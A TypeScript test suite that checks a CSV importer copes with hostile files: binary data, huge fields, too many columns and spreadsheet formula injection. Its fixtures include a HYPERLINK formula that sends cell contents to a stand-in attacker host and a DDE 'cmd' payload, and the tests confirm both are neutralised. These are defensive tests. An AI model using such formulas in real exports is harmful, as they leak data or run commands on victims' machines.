import { describe, it, expect, afterEach } from 'vitest';
import { randomBytes } from 'node:crypto';
import { createWriteStream, readFileSync } from 'node:fs';
import { once } from 'node:events';
import { sandbox, csv, person, count, type Sandbox } from './helpers';
import { ImportFileError } from '../../main/import/source/csv-file';

async function writeHuge(path: string, head: string, fillBytes: number, tail: string): Promise<void> {
  const out = createWriteStream(path);
  out.write(head);
  const block = 'x'.repeat(1024 * 1024);
  for (let n = 0; n < fillBytes; n += block.length) if (!out.write(block)) await once(out, 'drain');
  out.end(tail);
  await once(out, 'finish');
}

describe('hostile input gets a clear error or a clean reject, never a hang or crash', () => {
  let s: Sandbox;
  afterEach(async () => s?.close());

  it('refuses binary garbage', async () => {
    s = sandbox();
    const err = await s.imports.importFile(s.file('garbage.csv', randomBytes(300_000)), {}).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ImportFileError);
    expect((err as Error).message).toMatch(/looks binary/);
    expect(count(s.db, 'import_runs')).toBe(0);
  });

  it.each([
    ['quoted', 'Email,Note\na@example.com,ok\nb@example.com,"', '"\nc@example.com,after\n'],
    ['unquoted', 'Email,Note\na@example.com,ok\nb@example.com,', '\nc@example.com,after\n'],
  ])('stops at a 50 MB %s field with a one-line reason, within bounded memory, and changes nothing', async (_kind, head, tail) => {
    s = sandbox();
    const path = `${s.dir}/huge.csv`;
    await writeHuge(path, head, 50 * 1024 * 1024, tail);
    const heapBefore = process.memoryUsage().heapUsed;
    const started = Date.now();
    const err = await s.imports.importFile(path, {}).catch((e: unknown) => e);
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(err).toBeInstanceOf(ImportFileError);
    expect((err as Error).message).toMatch(/^Line 3: a row is longer than 4 MB/);
    expect((err as Error).message).not.toContain('\n');
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(150 * 1024 * 1024);
    expect(count(s.db, 'people')).toBe(0);
    expect(s.imports.history(1)[0]).toMatchObject({ status: 'failed' });
  }, 60_000);

  it('refuses a header of 10,000 columns, and trims a 10,000-cell row under a normal header', async () => {
    s = sandbox();
    const wide = Array.from({ length: 10_000 }, (_, i) => `c${i}`);
    const err = await s.imports.importFile(s.file('wide.csv', csv([['Email', ...wide], ['a@example.com', ...wide]])), {}).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ImportFileError);
    expect((err as Error).message).toBe('The header row has 10001 columns; at most 1000 can be imported.');
    const r = await s.imports.importFile(s.file('longrow.csv', csv([['Email', 'Name'], ['a@example.com', 'A', ...wide]])), {});
    expect(r).toMatchObject({ rows: 1, created: 1, warningCount: 1 });
    expect(r.warnings[0].message).toMatch(/different number of cells/);
  });

  it('stores formula cells as text, neutralises them in the rejected-rows CSV, and takes them back on re-import', async () => {
    s = sandbox();
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
    const rejectsPath = `${s.dir}/rejects.csv`;
    const r = await s.imports.importFile(
      s.file('f.csv', csv([
        ['Email', 'First Name', 'Company', 'Phone', 'Note'],
        ['a@example.com', evil, '+cmd|\' /C calc\'!A0', '+44 20 7946 0000', '@SUM(1+1)'],
        ['not-an-email', evil, '-2+3', '-12.5', '=1+1'],
      ])),
      { rejectsPath },
    );
    expect(r).toMatchObject({ created: 1, rejectedCount: 1 });
    expect(person(s.db, 'a@example.com')).toMatchObject({ first_name: evil, company: "+cmd|' /C calc'!A0", phone: '+44 20 7946 0000' });
    expect(JSON.parse(person(s.db, 'a@example.com')!.custom_fields as string)).toEqual({ Note: '@SUM(1+1)' });

    const rejects = readFileSync(rejectsPath, 'utf8');
    expect(rejects.startsWith('\ufeffEmail,First Name,Company,Phone,Note,Rejected Reason,Source Line\r\n')).toBe(true);
    expect(rejects).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")"`);
    expect(rejects).toContain(",'-2+3,-12.5,'=1+1,");
    expect(rejects).toContain('"Column ""Email"": ""not-an-email"" is not a valid email address",3');

    // The user fixes the email in the rejected-rows file and imports it again.
    const fixed = s.file('fixed.csv', rejects.replace('not-an-email', 'b@example.com'));
    const again = await s.imports.importFile(fixed, {});
    expect(again).toMatchObject({ created: 1, rejectedCount: 0 });
    expect(person(s.db, 'b@example.com')).toMatchObject({ first_name: evil, company: '-2+3', phone: '-12.5' });
    expect(JSON.parse(person(s.db, 'b@example.com')!.custom_fields as string)).toEqual({ Note: '=1+1' });
  });

  it('rejects a row with a single cell over the spreadsheet limit, naming the column', async () => {
    s = sandbox();
    const r = await s.imports.importFile(s.file('long.csv', csv([['Email', 'Bio'], ['a@example.com', 'y'.repeat(40_000)], ['b@example.com', 'short']])), { keepAllRejected: true });
    expect(r.rejected).toEqual([{ line: 2, reason: 'Column "Bio": value is 40000 characters long (at most 32767)' }]);
    expect(r.created).toBe(1);
  });
});
